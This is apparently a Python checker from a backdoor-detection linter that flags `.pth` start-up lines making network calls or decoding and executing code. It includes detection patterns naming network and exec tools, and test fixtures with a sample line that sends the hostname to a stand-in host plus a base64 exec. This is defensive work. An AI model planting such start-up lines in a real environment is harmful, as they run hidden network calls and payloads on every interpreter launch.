"""BDL401/BDL501 for `.pth` files: lines starting with `import` are executed by the `site` module at
every interpreter start-up, before any user code. A network call or a decode-and-exec there runs on
every `python` invocation of that environment. Other `.pth` lines are plain paths and are ignored."""
from __future__ import annotations

import re

from backdoor_lint.checkers.examples import Invalid, Valid
from backdoor_lint.checkers.text import TextChecker
from backdoor_lint.findings import Finding

EXECUTED = re.compile(r"^import[ \t]")
NETWORK = re.compile(r"\b(urllib|urlopen|urlretrieve|requests|httpx|http\.client|socket|create_connection|"
                     r"smtplib|ftplib|subprocess|os\.system|os\.popen|curl|wget|gethostbyname|getaddrinfo)\b")
EXEC = re.compile(r"\b(exec|eval|compile|__import__)\s*\(")
DECODE = re.compile(r"b64decode|b32decode|b16decode|fromhex|unhexlify|decompress|codecs\.decode|marshal\.loads|"
                    r"rot.?13|\[::-1\]|chr\(")


class PthStartupCode(TextChecker):
    CODES = ("BDL401", "BDL501")
    LANGUAGES = frozenset({"pth"})
    TRIGGER = re.compile(rb"(?m)^import[ \t]")

    def check(self, text: str, display: str, language: str) -> list[Finding]:
        findings = []
        for number, line in enumerate(text.splitlines(), 1):
            if not EXECUTED.match(line):
                continue
            network = NETWORK.search(line)
            snippet = line.strip()
            shown = snippet if len(snippet) <= 80 else snippet[:77] + "..."
            if network:
                findings.append(Finding(display, number, network.start() + 1, "BDL401",
                                        f"this .pth line runs at every Python start-up and uses {network.group(1)} "
                                        f"(`{shown}`): every interpreter in the environment makes this network call",
                                        engine="text", snippet=snippet))
            if EXEC.search(line) and DECODE.search(line):
                findings.append(Finding(display, number, 1, "BDL501",
                                        f"this .pth line decodes and executes code at every Python start-up "
                                        f"(`{shown}`): a hidden payload that runs before any program",
                                        engine="text", snippet=snippet))
        return findings

    VALID = [
        Valid("/opt/app/src\n../lib\n", "BDL401", path="app.pth"),
        Valid("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
              "enabled and __import__('_distutils_hack').add_shim();\n", "BDL501", path="distutils-precedence.pth"),
        Valid("import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n",
              "BDL501", path="__editable__.pkg.pth"),
        Valid("# import urllib is only a comment here\n", "BDL401", path="x.pth"),
    ]
    INVALID = [
        Invalid("import urllib.request; urllib.request.urlopen('https://b.example/?h=' + __import__('socket')"
                ".gethostname())\n", "BDL401", 1, path="zz_init.pth"),
        Invalid("/usr/lib/x\nimport base64; exec(base64.b64decode('cHJpbnQoMSk='))\n", "BDL501", 2, path="a.pth"),
    ]
